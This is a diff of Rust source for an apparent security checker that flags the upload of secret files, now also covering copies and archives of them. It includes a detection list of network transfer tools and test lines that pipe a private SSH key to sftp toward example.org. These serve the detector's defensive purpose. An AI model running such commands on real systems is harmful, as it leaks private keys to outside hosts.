@@ -80,13 +80,22 @@ fn uploaded<'a, S: Secret>(check: &mut Check<'_, 'a>, site: &Use<'a>) {
             let finding = told::<S>(check, site, &name, "");
             return check.report(finding);
         }
+        // A copy of one, or an archive of a folder of them.
+        let flows = check.model.written_to(file, site.place.scope).flows;
+        if let Some(flow) = flows.into_iter().find(|flow| S::KINDS.contains(&flow.kind)) {
+            let name = flow.name.unwrap_or_else(|| flow.path.to_string());
+            let finding = told::<S>(check, site, &name, "");
+            return check.report(finding);
+        }
     }
 }
 
 /// A command line that sends a file.
 fn by_command<'a, S: Secret>(check: &mut Check<'_, 'a>, site: &Use<'a>) {
     let Some(line) = check.command(site) else { return };
-    if let Some((_, name)) = sent(&line).filter(|(kind, _)| S::KINDS.contains(kind)) {
+    let model = check.model;
+    let holds = |file: &str| secret(file).or_else(|| model.copied_to(file.trim_matches(['"', '\''])));
+    if let Some((_, name)) = sent(&line, &holds).filter(|(kind, _)| S::KINDS.contains(kind)) {
         let addresses: Vec<String> = line.split_whitespace().filter(|w| w.contains("://")).map(str::to_owned).collect();
         let finding = told::<S>(check, site, &name, &Destination::of(&addresses).phrase());
         check.report(finding);
@@ -98,8 +107,8 @@ fn told<'a, S: Secret>(check: &Check<'_, 'a>, site: &Use<'a>, name: &str, to: &s
     check.at(site.range, message).severity(Severity::Critical).confidence(Confidence::High)
 }
 
-/// The file of secrets that a command line, in lower case, sends, and what it holds.
-fn sent(line: &str) -> Option<(SourceKind, String)> {
+/// The file of secrets that a command line, in lower case, sends, and what it `holds`.
+fn sent(line: &str, holds: &dyn Fn(&str) -> Option<(SourceKind, String)>) -> Option<(SourceKind, String)> {
     const PROGRAMS: &[&str] =
         &["curl", "wget", "scp", "rsync", "sftp", "rclone", "aws", "gsutil", "nc", "ncat", "netcat"];
     // Most command lines hold none of these.
@@ -117,7 +126,7 @@ fn sent(line: &str) -> Option<(SourceKind, String)> {
                 .chain(read_out(part))
                 .chain(if takes_input(program, &words) { read_out(before) } else { Vec::new() })
                 .chain(if program == "sftp" { put(&before.split_whitespace().collect::<Vec<_>>()) } else { Vec::new() })
-                .find_map(secret);
+                .find_map(holds);
             if found.is_some() {
                 return found;
             }
@@ -205,7 +214,7 @@ mod tests {
             "echo 'put /home/me/.ssh/id_rsa' | sftp -b - me@example.org",
             "sftp me@example.org <<< 'put /home/me/.ssh/id_rsa'",
         ] {
-            assert_eq!(sent(line).map(|(kind, _)| kind), Some(SourceKind::KeyFile), "{line}");
+            assert_eq!(sent(line, &secret).map(|(kind, _)| kind), Some(SourceKind::KeyFile), "{line}");
         }
         for line in [
             "scp -i ~/.ssh/id_rsa notes.txt me@example.org:/tmp/",
@@ -218,7 +227,7 @@ mod tests {
             "echo 'get ~/.ssh/id_rsa' | sftp me@example.org",
             "cat ~/.ssh/id_rsa; curl https://example.org/",
         ] {
-            assert_eq!(sent(line), None, "{line}");
+            assert_eq!(sent(line, &secret), None, "{line}");
         }
     }
 }
